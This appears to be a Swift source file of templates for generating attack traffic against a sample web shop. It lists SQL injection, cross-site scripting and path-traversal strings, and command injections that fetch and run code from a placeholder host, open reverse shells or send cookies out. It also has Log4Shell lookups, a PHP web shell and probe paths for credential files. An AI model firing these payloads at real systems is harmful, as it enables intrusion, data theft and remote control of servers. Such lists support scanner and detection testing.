// The lists that payloads and probes are put together from.
extension Payloads {
  static let templates = TextTable([
    // SQL
    #"{n}' or '{n}'='{n}"#, #"' or {n}={n} -- "#, #"{n} union select {w},{w},null from users"#,
    #"-{n}' union all select null,concat({w},0x3a,{w}),{n} from information_schema.tables-- {s}"#,
    #"{n}) and (select {n} from (select count(*),concat(0x7171,(select {w}),floor(rand(0)*2))x from information_schema.plugins group by x)a)"#,
    #"{n} and sleep({n})"#, #"{n}';waitfor delay '0:0:{n}'--"#, #"{n}';select pg_sleep({n})--"#,
    #"{n} or benchmark({n}00000,md5('{s}'))"#, #"{n}'; drop table {w};--"#,
    #"{n}' and extractvalue({n},concat(0x7e,version()))-- -"#,
    #"{n}'/**/or/**/{n}={n}#"#, #"{n}%' and ascii(substring((select {w} from users limit 1),{n},1))>{n} and '%'='"#,
    #"{s}' having {n}={n}--"#, #"{n} order by {n}-- {s}"#, #"{n}' into outfile '/var/www/{s}.php"#,
    #"{n}' and (select load_file('/etc/passwd')) and 'a'='a"#, #"admin'-- "#,
    #"{n}||(select dbms_pipe.receive_message('{s}',{n}) from dual)"#,
    // Cross-site scripting
    #"<script>alert({n})</script>"#, #""><script src=//{h}/{s}.js></script>"#, #"<img src=x onerror=alert({n})>"#,
    #"'><svg/onload=confirm({n})>"#, #"javascript:alert(document.{w})"#,
    #"<body onload=fetch('//{h}/'+document.cookie)>"#,
    #"<iframe srcdoc='<script>alert({n})</script>'>"#, #"<details open ontoggle=prompt({n})>"#,
    #""autofocus onfocus=alert({n}) x=""#, #"<a href=javascript:eval(atob('{s}'))>{s}</a>"#,
    #"<video><source onerror=alert({n})>"#,
    #"<math><mtext><style><img src onerror=alert('{s}')>"#,
    #"\x3cscript\x3ealert({n})\x3c/script\x3e<script>{s}()</script>"#,
    // Files
    #"../../../../../../etc/passwd"#, #"../../../../{s}/../etc/shadow"#, #"....//....//....//etc/hosts"#,
    #"/proc/self/environ"#,
    #"..\..\..\..\windows\win.ini"#, #"file:///etc/passwd"#, #"/var/log/nginx/access.log/../../../../etc/group"#,
    #"../../../../../../boot.ini"#, #"../../../../.ssh/id_rsa"#, #"../../wp-config.php"#,
    #"http://{h}/{s}.txt?"#, #"https://{h}/shell.php?{s}="#, #"ftp://{h}/{s}.php?"#,
    // Commands
    #"; cat /etc/passwd"#, #"| id; uname -a"#, #"$(curl http://{h}/{s}|sh)"#, #"`wget http://{h}/{s} -O /tmp/{s}`"#,
    #"127.0.0.1 && ping -c {n} {h}"#, #"; nc -e /bin/sh {h} {n}"#, #"||powershell -enc {s}{s}{s}"#,
    #"|/bin/bash -c 'bash -i >& /dev/tcp/{h}/{n} 0>&1'"#, #"() { :;}; /bin/bash -c "cat /etc/passwd""#,
    #"; chmod 777 /tmp/{s}; /tmp/{s}"#, #"a;whoami;echo {s}"#, #"%0a/usr/bin/id"#,
    // Languages and frameworks
    #"<?php system($_GET['{s}']); ?>"#, #"php://filter/convert.base64-encode/resource={s}.php"#,
    #"data://text/plain;base64,PD9waHAg{s}"#,
    #"assert(phpinfo())"#, #"eval(base64_decode('{s}'))"#, #"O:{n}:"{s}":1:{s:4:"{s}";s:{n}:"{s}";}"#,
    #"${jndi:ldap://{h}/{s}}"#, #"${${lower:j}ndi:${lower:l}dap://{h}/{s}}"#, #"${jndi:dns://{h}}"#,
    #"%{(#a=@java.lang.Runtime@getRuntime().exec('{s}'))}"#, #"T(java.lang.Runtime).getRuntime().exec("{s}")"#,
    #"class.module.classLoader.resources.context.parent.pipeline.first.pattern={s}"#,
    #"__proto__[{s}]={n}"#, #"require('child_process').execSync('{s}')"#,
    #"_$$ND_FUNC$$_function(){require('child_process').exec('{s}')}()"#,
  ])

  static let pathTemplates = TextTable([
    "/static/../../../../../../etc/passwd", "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/files/..%2f..%2f..%2f..%2fetc%2fshadow", "/search/%3Cscript%3Ealert({n})%3C/script%3E",
    "/product/{n}'%20or%20{n}={n}--%20{s}",
    "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]={s};id",
    "/api/v2/products/{n}%27%20union%20select%20{w},{w}%20from%20users--", "/?x=${jndi:ldap://{h}/{s}}",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://{h}/{s};sh+/tmp/{s}", "/blog/..%252f..%252f..%252fetc%252fpasswd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?{s}=<?php+system('id');?>",
  ])

  static let carriers = TextTable([
    "/search", "/category/tents", "/category/boots", "/product/10077-blue-hats", "/blog/winter-tips-for-boots-84",
    "/account/login",
    "/cart", "/api/v2/products/10431", "/api/v2/stock", "/api/v2/home", "/", "/contact", "/stores", "/index.php",
    "/item.php",
    "/download", "/shipping", "/feed.xml",
  ])

  static let parameters = TextTable([
    "q", "id", "page", "sort", "filter", "name", "lang", "redirect", "url", "file", "category", "item", "ref", "view",
    "template",
    "user", "next", "callback", "color", "size", "since", "action", "data", "message", "email", "coupon", "zip",
    "token",
  ])

  static let columns = TextTable([
    "username", "password", "email", "user()", "database()", "version()", "cookie", "domain", "table_name",
    "column_name", "token",
  ])

  static let probes = TextTable([
    ".env", ".git/config", ".git/HEAD", ".svn/entries", ".DS_Store", ".htaccess", ".htpasswd", ".aws/credentials",
    ".ssh/id_rsa",
    "wp-login.php", "wp-admin/", "wp-config.php.bak", "xmlrpc.php", "phpmyadmin/", "pma/", "adminer.php", "admin/",
    "administrator/",
    "manager/html", "console/", "actuator/env", "actuator/heapdump", "server-status", "phpinfo.php", "info.php",
    "test.php",
    "backup.zip", "backup.sql", "dump.sql", "db.sql.gz", "site.tar.gz", "old/", "config.php~", "config.json",
    "settings.py",
    "composer.json", "package.json", "Dockerfile", "docker-compose.yml", "web.config", "id_rsa", "swagger.json",
    "v2/api-docs",
    "graphql", "solr/admin/", "jenkins/login", "cgi-bin/test.cgi", "shell.php", "c99.php", "upload.php",
    "vendor/autoload.php",
    "storage/logs/laravel.log", "debug/default/view", "_profiler/phpinfo", "telescope/requests", "owa/auth/logon.aspx",
    "remote/login", "boaform/admin/formLogin", "hudson/script", "crossdomain.xml",
  ])

  static let folders = TextTable([
    "www", "app", "api", "backup", "old", "new", "test", "dev", "staging", "blog", "shop", "site", "web", "portal",
    "cms", "v1",
    "public", "private", "data", "tmp",
  ])

  static let endings = TextTable([".bak", ".old", "~", ".save", ".1"])
}
